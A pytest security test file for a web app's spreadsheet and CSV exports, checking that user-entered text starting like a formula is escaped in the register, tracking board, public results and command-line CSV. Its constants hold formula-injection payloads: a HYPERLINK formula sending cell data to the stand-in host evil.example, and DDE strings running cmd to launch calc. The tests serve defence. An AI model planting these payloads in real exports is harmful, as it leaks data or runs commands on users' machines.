"""Text typed by users that starts like a spreadsheet formula (=, +, -, @, a tab, a carriage
return) comes out of every export as text: the register, the tracking board, the public results
and the command line's CSV."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.security.forging import csrf_of
from webapp.extensions import db
from webapp.signers.models import Signer
from webapp.units.models import Unit

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
CALC = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+9)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=2+2"


def edit_unit(client, code: str, name: str) -> None:
    token = csrf_of(client.get(f"/admin/units/{code}/edit"))
    answer = client.post(
        f"/admin/units/{code}/edit",
        data={"csrf_token": token, "name": name, "kind": "ward", "parent_code": ""},
    )
    assert (answer.status_code, answer.location) == (302, f"/units/{code}")


@pytest.fixture
def hostile(client, issued, tokens, login):
    """Formula-like text in unit names (the admin's form), a letter's subject, addressees,
    assignment and recipients (the API), a signer's name (stored); the letter signed and issued,
    January published."""
    login("quantri")
    edit_unit(client, "ANBINH", HYPERLINK)
    edit_unit(client, "TANTIEN", CALC)
    chairman = db.session.scalars(select(Signer).where(Signer.title == "CHỦ TỊCH")).one()
    chairman.full_name = AT
    db.session.commit()
    office, leader = tokens["office"], tokens["leader"]
    drafted = client.post("/api/v1/directives", json={"period": "2024-01"}, headers=office).json
    items = [
        {key: item[key] for key in ("heading", "text", "sub_items", "lead_unit_codes")}
        for item in drafted["assignments"]
    ]
    items[0].update(heading=MINUS, text=HYPERLINK, sub_items=[AT, CALC])
    changes = {
        "subject": MINUS,
        "addressees": [HYPERLINK, CALC, "Phòng Nội vụ thành phố"],
        "recipients": [AT],
        "signer_id": chairman.id,
        "assignments": items,
    }
    letter = drafted["id"]
    patched = client.patch(f"/api/v1/directives/{letter}", json=changes, headers=office)
    assert patched.status_code == 200, patched.json
    for step, headers in (("submit", office), ("approve", leader), ("issue", office)):
        done = client.post(f"/api/v1/directives/{letter}/{step}", headers=headers)
        assert done.status_code in (200, 201), (step, done.json)
    login("vanphong")
    publish = client.post(
        "/stats/publish",
        data={
            "csrf_token": csrf_of(client.get("/stats?period=2024-01")),
            "period": "2024-01",
            "confirmed": "1",
        },
    )
    assert publish.status_code == 302
    return letter


def sheet_cells(data: bytes) -> list[str]:
    """Return every text cell of the data rows of a workbook's first sheet."""
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [
        cell.value
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str) and cell.value
    ]


def assert_no_formula(data: bytes) -> list[str]:
    """Check a workbook holds no formula and no text that starts like one; return its text."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", package.read(name)), name
    cells = sheet_cells(data)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    return cells


def download(client, path: str) -> bytes:
    answer = client.get(path)
    assert answer.status_code == 200
    assert answer.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return answer.get_data()


def test_the_register_export_neutralises_formulas(client, hostile):
    cells = assert_no_formula(download(client, "/register.xlsx"))
    assert f"'{HYPERLINK}; {CALC}; Phòng Nội vụ thành phố" in cells
    assert f"'{AT}" in cells
    assert any(cell.endswith(f"V/v {MINUS}") for cell in cells)


def test_the_tracking_export_neutralises_formulas(client, hostile):
    cells = assert_no_formula(download(client, "/tracking.xlsx"))
    assert {f"'{MINUS}", f"'{HYPERLINK}", f"'{CALC}"} <= set(cells)


def test_the_public_results_neutralise_formulas(client, auth, hostile):
    auth.logout()
    cells = assert_no_formula(download(client, "/public/results.xlsx?period=2024-01"))
    assert {f"'{HYPERLINK}", f"'{CALC}"} <= set(cells)


@pytest.mark.parametrize("text", [HYPERLINK, CALC, MINUS, AT, TAB, RETURN])
def test_the_shared_writer_neutralises_each_formula_start(text):
    from webapp.spreadsheets import csv_row, workbook

    data = workbook("Thử", [("a", "A"), ("n", "N")], [10, 10], [{"a": text, "n": -5}])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (f"'{text}", "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-5, "n")
    assert csv_row([text, -5, None]) == [f"'{text}", -5, None]


@pytest.fixture
def hostile_codes(issued):
    """Unit codes that start like formulas, as an older database or a hand-made row may hold."""
    codes = {"TAMPHUOC": "=1+2", "BUUHOA": "+cmd|' /C calc'!A0", "ANBINH": "@SUM(A1)"}
    for unit in db.session.scalars(select(Unit).where(Unit.code.in_(codes))):
        unit.code = codes[unit.code]
    db.session.commit()
    return set(codes.values())


@pytest.mark.parametrize("command", ["stats", "findings"])
def test_the_command_line_csv_neutralises_formulas(runner, hostile_codes, command):
    result = runner.invoke(args=[command, "--period", "2024-01"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert {f"'{code}" for code in hostile_codes} <= set(cells)


def test_the_command_line_json_keeps_the_codes_as_they_are(runner, hostile_codes):
    result = runner.invoke(args=["stats", "--period", "2024-01", "--format", "json"])
    assert result.exit_code == 0
    assert hostile_codes <= {row["unit_code"] for row in json.loads(result.output)}
